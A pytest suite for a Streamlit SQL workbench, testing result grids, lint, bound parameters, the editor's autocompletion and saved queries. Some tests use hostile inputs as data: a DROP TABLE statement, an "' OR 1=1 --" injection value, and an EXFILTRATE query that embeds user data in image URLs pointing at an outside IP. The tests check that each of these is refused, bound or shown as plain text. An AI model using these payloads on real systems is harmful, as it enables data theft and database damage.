"""The workbench page in AppTest (widgets and flow) and in a real browser (the editor itself)."""

from __future__ import annotations

import pytest
from conftest import ROOT, open_editor, shown, wait_for_app
from streamlit.testing.v1 import AppTest


def workbench(sql: str, user: str = "alex") -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.session_state["app_user"] = user
    at.session_state["wb_sql"] = sql
    at.switch_page("pages/workbench.py")
    at.run()
    assert not at.exception, at.exception
    return at


def test_run_shows_result_grid_lint_and_estimate(portal_env):
    at = workbench("SELECT platform, count(*) AS users FROM analytics.users GROUP BY 1 ORDER BY 2 DESC")
    at.button(key="wb_run").click().run()
    assert not at.exception, at.exception
    grids = [d.value for d in at.dataframe if "users" in d.value.columns]
    assert grids and len(grids[0]) == 5
    assert any("Estimate: Scans" in shown(c) for c in at.caption)
    assert any("No findings" in shown(s) for s in at.success)
    assert any("rows ·" in shown(c) for c in at.caption)


def test_several_statements_get_a_tab_each(portal_env):
    at = workbench("SELECT 1 AS a;\nSELECT nope FROM analytics.users;\nSELECT 2 AS b, 3 AS c")
    at.button(key="wb_run").click().run()
    assert not at.exception
    # L002 stops the run before anything executes: fix the middle statement and run again.
    assert any("L002" in shown(e) for e in at.error)
    at.session_state["wb_sql"] = "SELECT 1 AS a;\nSELECT 2 AS b, 3 AS c"
    at.button(key="wb_run").click().run()
    labels = [t.label for t in at.tabs]
    assert "Result 1" in labels and "Result 2" in labels


def test_hostile_sql_is_refused_in_plain_words(portal_env):
    at = workbench("DROP TABLE analytics.users")
    at.button(key="wb_run").click().run()
    assert not at.exception
    assert any("refused" in e.value or "read-only" in shown(e).lower() for e in at.error)


def test_cross_join_is_refused_by_the_guard(portal_env):
    at = workbench("SELECT * FROM analytics.events a CROSS JOIN analytics.events b CROSS JOIN analytics.events c")
    at.button(key="wb_run").click().run()
    assert any("Refused before running" in shown(e) for e in at.error)


def test_parameters_get_typed_widgets_and_are_bound(portal_env):
    at = workbench("SELECT count(*) AS n FROM analytics.users WHERE country = $country")
    at.text_input(key="wb_pval_country_text").set_value("x' OR 1=1 --").run()
    at.button(key="wb_run").click().run()
    assert not at.exception
    grid = [d.value for d in at.dataframe if "n" in d.value.columns][0]
    assert grid.iloc[0, 0] == 0
    at.text_input(key="wb_pval_country_text").set_value("US").run()
    at.button(key="wb_run").click().run()
    grid = [d.value for d in at.dataframe if "n" in d.value.columns][0]
    assert grid.iloc[0, 0] > 0


def test_history_restores_a_query(portal_env):
    at = workbench("SELECT 42 AS answer")
    at.button(key="wb_run").click().run()
    at.session_state["wb_sql"] = "SELECT 1"
    at.session_state["wb_history_open"] = True
    at.run()
    restore = [b for b in at.button if b.key and b.key.startswith("wb_restore_")]
    assert restore
    restore[0].click().run()
    assert at.session_state["wb_sql"] == "SELECT 42 AS answer"


def test_a_date_parameter_starts_inside_the_data_and_an_unchanged_run_answers(portal_env):
    from datetime import date

    at = workbench("SELECT count(*) AS orders FROM analytics.orders WHERE order_date >= $since")
    (picker,) = at.date_input
    assert picker.value < date.today()  # the demo's data ends before today
    at.button(key="wb_run").click().run()
    assert not at.exception, at.exception
    (grid,) = [d.value for d in at.dataframe if "orders" in d.value.columns]
    assert int(grid["orders"].iloc[0]) > 0


def test_a_blocked_run_says_the_result_below_is_the_previous_one(portal_env):
    at = workbench("SELECT platform, count(*) AS users FROM analytics.users GROUP BY 1")
    at.button(key="wb_run").click().run()
    assert not any("Previous result" in shown(i) for i in at.info)
    at.session_state["wb_sql"] = "SELECT platform FROM analytics.userz"
    at.button(key="wb_run").click().run()
    assert any("L002" in shown(e) for e in at.error)  # blocked by lint: nothing ran
    assert any("Previous result" in shown(i) for i in at.info)
    assert [d.value for d in at.dataframe if "users" in d.value.columns]  # still there, and labelled


def test_the_result_grid_formats_numbers_for_reading_and_keeps_identifiers(portal_env):
    at = workbench("SELECT user_id, sum(revenue) AS revenue, count(*) AS orders FROM analytics.orders GROUP BY 1")
    at.button(key="wb_run").click().run()
    (grid,) = [d for d in at.dataframe if "revenue" in d.value.columns]
    import json

    config = json.loads(grid.proto.columns)  # the column configuration Streamlit sends to the browser
    formats = {name: c.get("type_config", {}).get("format") for name, c in config.items()}
    assert formats["revenue"] == "dollar" and formats["orders"] == "localized"  # 1,445,204.77, not 1445204.77
    assert formats["user_id"] == "plain"  # an identifier as typed, not 12,345
    assert all(config[c]["label"] == c for c in ("user_id", "revenue", "orders"))  # the names the SQL gave


def test_raw_tables_are_labelled_in_the_schema_browser(portal_env):
    at = workbench("SELECT 1")
    labels = [e.label for e in at.main.expander]
    assert "raw.orders · " in " ".join(labels) and any(
        lbl.startswith("raw.orders") and "raw dump" in lbl for lbl in labels
    )
    assert not at.main.warning  # columns and details render only for open tables
    at.session_state["wb_exp_raw.orders"] = True
    at.run()
    warnings = [shown(w) for w in at.main.warning]
    assert any("analytics.orders" in w for w in warnings)


@pytest.mark.browser
def test_editor_completes_runs_with_ctrl_enter_and_charts(app_server, page):
    page.goto(app_server + "/workbench")
    wait_for_app(page)
    frame = page.frame_locator('iframe[title*="sql_editor"]')
    editor = frame.locator(".ace_editor")
    editor.wait_for(timeout=30_000)
    assert frame.locator(".ace_gutter-cell").count() >= 1  # line numbers
    editor.click()
    page.keyboard.press("Control+a")
    page.keyboard.press("Delete")
    page.keyboard.type("SELECT browser, count(*) AS n FROM analytics.users u GROUP BY 1 ORDER BY 2 DESC")
    frame.locator(".ace_keyword").first.wait_for(timeout=5000)  # syntax highlighting
    page.keyboard.press("Escape")  # close any live completion, or Enter would accept it
    page.keyboard.press("Enter")
    page.keyboard.type("-- plat")
    page.keyboard.press("Control+Space")
    frame.locator(".ace_autocomplete").wait_for(timeout=10_000)
    popup = frame.locator(".ace_autocomplete").inner_text().replace("\n", "")  # matched part is split into spans
    assert "platform" in popup and "VARCHAR" in popup
    page.keyboard.press("Escape")
    page.keyboard.press("Enter")
    page.keyboard.type("-- u.sig")  # alias-aware: only columns of the table aliased u
    page.keyboard.press("Control+Space")  # open the completion list explicitly (live popups race the typing)
    popup = frame.locator(".ace_autocomplete")
    popup.wait_for(timeout=10_000)
    text = popup.inner_text().replace("\n", "")
    assert "signup_date" in text and "u → analytics.users" in text and "order_id" not in text
    page.keyboard.press("Escape")
    page.keyboard.press("Control+Enter")
    page.wait_for_selector("text=Result 1", timeout=30_000)
    wait_for_app(page)
    page.wait_for_function(
        "() => Array.from(document.querySelectorAll('[data-testid=stDataFrame] table td')).some(td => td.innerText === 'Safari')",
        timeout=30_000,
    )
    # the keyboard stays in the editor after a run: typing goes on where it was, and runs again
    page.keyboard.press("Control+End")
    page.keyboard.type(" LIMIT 1")
    from playwright.sync_api import expect

    # typed into the editor (focus kept); Ace draws the text on its next frame, so poll for it
    expect(frame.locator(".ace_editor .ace_content").first).to_contain_text("LIMIT 1", timeout=5_000)
    assert page.locator('[data-testid="stVegaLiteChart"]').count() == 0  # the chart is drawn on request
    page.get_by_text("Chart", exact=True).click()
    page.locator('[data-testid="stVegaLiteChart"] canvas, [data-testid="stVegaLiteChart"] svg').first.wait_for(
        timeout=30_000
    )
    assert page.locator('[data-testid="stException"]').count() == 0
    assert page.page_errors == []


@pytest.mark.browser
def test_lint_findings_are_marked_in_the_editor_gutter(app_server, page):
    frame = open_editor(page, app_server)
    page.keyboard.press("Delete")
    for i, line in enumerate(["SELECT user_id", "FROM analytics.users", "WHERE country = NULL"]):
        if i:
            page.keyboard.press("Escape")  # close the completion popup, or Enter would accept it
            page.keyboard.press("Enter")
        page.keyboard.type(line)
    page.keyboard.press("Escape")
    page.keyboard.press("Control+Enter")
    page.wait_for_selector("text=L005", timeout=30_000)
    wait_for_app(page)
    frame = page.frame_locator('iframe[title*="sql_editor"]')
    frame.locator(".ace_gutter-cell.ace_warning").first.wait_for(timeout=30_000)
    assert frame.locator(".ace_gutter-cell.ace_warning").first.inner_text().strip() == "3"


def editor_text(page) -> str:
    frame = next(f for f in page.frames if "sql_editor" in (f.url or ""))
    return frame.evaluate("() => ace.edit('editor').getValue()")


@pytest.mark.browser
def test_the_editor_keeps_what_is_typed_and_completion_is_one_tab_away(app_server, page):
    """Issue #31: Enter at each line end, with the live completion open, made `AS users` into
    `AS analytics.usersFROM …`. Enter is a newline unless an arrow key picked a suggestion; Tab takes
    the first one, which is the prefix match (`analytics.orde` offers orders before order_items)."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    from playwright.sync_api import expect

    frame = open_editor(page, app_server)
    page.keyboard.press("Delete")
    lines = [
        "SELECT platform, acquisition_channel, count(*) AS users",
        "FROM analytics.users",
        "GROUP BY ALL",
        "ORDER BY users desc",
    ]
    popup = frame.locator(".ace_autocomplete")
    opened = 0
    for i, line in enumerate(lines):
        page.keyboard.type(line, delay=20)  # as a person types: the live completion opens on the way
        if i < len(lines) - 1:
            try:
                popup.wait_for(state="visible", timeout=2_000)
                opened += 1
            except PlaywrightTimeout:  # on a busy machine it may still be on its way: Enter anyway
                pass
            page.keyboard.press("Enter")
    assert opened >= 1  # Enter was pressed with completion open at least once
    assert editor_text(page) == "\n".join(lines)
    page.keyboard.press("Enter")
    page.keyboard.type("-- analytics.orde")
    popup.wait_for(state="visible", timeout=10_000)
    row = frame.locator(".ace_autocomplete .ace_line").first
    expect(row).to_contain_text("orde", timeout=10_000)  # the list follows the typing a moment later
    first = row.inner_text().replace("\n", "").split()[0]
    assert first == "analytics.orders"  # the matched part is split into spans
    page.keyboard.press("Tab")
    assert editor_text(page).endswith("-- analytics.orders")
    page.keyboard.press("Enter")
    page.keyboard.type("-- analytics.us")
    expect(row).to_contain_text("analytics.us", timeout=10_000)
    page.keyboard.press("ArrowDown")  # an explicit pick with the arrows, then Enter takes it
    page.keyboard.press("ArrowUp")
    page.keyboard.press("Enter")
    assert editor_text(page).endswith("-- analytics.users")
    # room below the baseline, so underscores show in Chromium (they were clipped)
    ratio = next(f for f in page.frames if "sql_editor" in (f.url or "")).evaluate(
        "() => { const e = ace.edit('editor'); return e.renderer.lineHeight / e.getFontSize(); }"
    )
    assert ratio >= 1.4
    assert page.page_errors == []


EXFILTRATE = (
    "SELECT error('![x](http://203.0.113.9/leak.png?d=' || "
    "(SELECT string_agg(country, ',') FROM (SELECT country FROM analytics.users ORDER BY user_id LIMIT 3)) "
    "|| ') <img src=http://203.0.113.9/i.png>')"
)


@pytest.mark.browser
def test_a_hostile_error_message_is_shown_as_text_and_sends_nothing(app_server, page):
    """Issue #12, finding 3: an error message built from the data is text, so no image loads from
    elsewhere and no personal data leaves the machine, even for a user who may see PII."""
    from portal.config import load_settings
    from portal.identity import make_user
    from portal.library import QueryStore, SavedQuery
    from portal.library.share import share_sql

    store = QueryStore(app_server.queries_dir, app_server.state_dir)
    dana = make_user("dana", load_settings())
    store.save(
        SavedQuery(
            "support/hostile_description",
            "Hostile description https://203.0.113.9/t www.hostile.example me@hostile.example",
            "SELECT 1 AS one\n",
            description="Look ![img](http://203.0.113.9/d.png) <img src=http://203.0.113.9/h.png>",
        ),
        dana,
        None,
    )
    page.goto(app_server + "/workbench" + share_sql(EXFILTRATE))
    wait_for_app(page)
    page.get_by_role("button", name="Run", exact=True).click()
    page.wait_for_selector("text=Result 1", timeout=30_000)
    wait_for_app(page)
    alert = page.locator('[data-testid="stAlert"]', has_text="203.0.113.9/leak.png?d=")
    alert.first.wait_for(timeout=30_000)  # the error shows the message literally, data and all
    said = alert.first.inner_text().replace("\u2060", "")  # the joiners that keep a URL from becoming a link
    assert "![x](http://203.0.113.9/leak.png?d=" in said and "<img src=http://203.0.113.9/i.png>" in said
    assert page.locator("img[src*='203.0.113.9']").count() == 0
    page.goto(app_server + "/library?q=support/hostile_description")
    wait_for_app(page)
    page.wait_for_function("() => document.body.innerText.includes('![img](http')", timeout=30_000)
    assert page.locator("img[src*='203.0.113.9']").count() == 0
    # bare URLs in a title are text too (review #3: they rendered as links); an e-mail stays findable
    page.get_by_text("203.0.113.9/t www", exact=False).first.wait_for(timeout=30_000)
    assert page.locator("a[href*='203.0.113.9'], a[href^='http'][href*='hostile.example']").count() == 0
    page.get_by_text("me@hostile.example", exact=False).first.wait_for(timeout=30_000)
    assert page.external_requests == []


def test_mechanical_lint_fixes_are_one_click_and_duplicate_columns_do_not_crash(portal_env):
    """Issue #22 (one-click fixes) and #25 (a SELECT * over a join crashed the grid)."""
    at = workbench("SELECT user_id, signup_at FROM analytics.users WHERE first_order_at = NULL\nLIMIT 5")
    at.button(key="wb_run").click().run()
    assert any("L005" in shown(w) for w in at.warning)  # a warning: the query still runs
    at.button(key="wb_apply_fixes").click().run()
    assert not at.exception, at.exception
    assert (
        at.session_state["wb_sql"]
        == "SELECT user_id, signup_at FROM analytics.users WHERE first_order_at IS NULL\nORDER BY ALL\nLIMIT 5"
    )
    joined = workbench("SELECT * FROM analytics.orders o JOIN analytics.users u USING (user_id) LIMIT 100")
    joined.button(key="wb_run").click().run()
    assert not joined.exception, joined.exception
    (grid,) = [d.value for d in joined.dataframe if "order_id" in d.value.columns]
    assert len(grid) == 100 and "platform_1" in grid.columns and grid.columns.is_unique


@pytest.mark.browser
def test_the_save_form_stays_open_while_it_is_filled_in_after_a_run(app_server, page):
    """Issue #25, defect 3: after a Run, the first edit in the Save form closed it."""
    open_editor(page, app_server)
    page.keyboard.type("SELECT platform, count(*) AS n FROM analytics.users GROUP BY 1")
    page.locator('[data-testid="stExpander"] summary', has_text="Save").first.click()
    title = page.get_by_label("Title")
    title.wait_for(timeout=15_000)
    page.get_by_role("button", name="Run").click()
    page.wait_for_selector("text=Result 1", timeout=30_000)
    wait_for_app(page)
    title.fill("Users by platform")
    title.press("Tab")  # the first edit: the form reruns the page
    wait_for_app(page)
    page.get_by_label("Description").fill("People per platform.")
    page.get_by_label("Description").press("Tab")
    wait_for_app(page)
    assert title.is_visible() and title.input_value() == "Users by platform"
    assert page.get_by_label("Description").input_value() == "People per platform."
    assert page.locator('[data-testid="stException"]').count() == 0
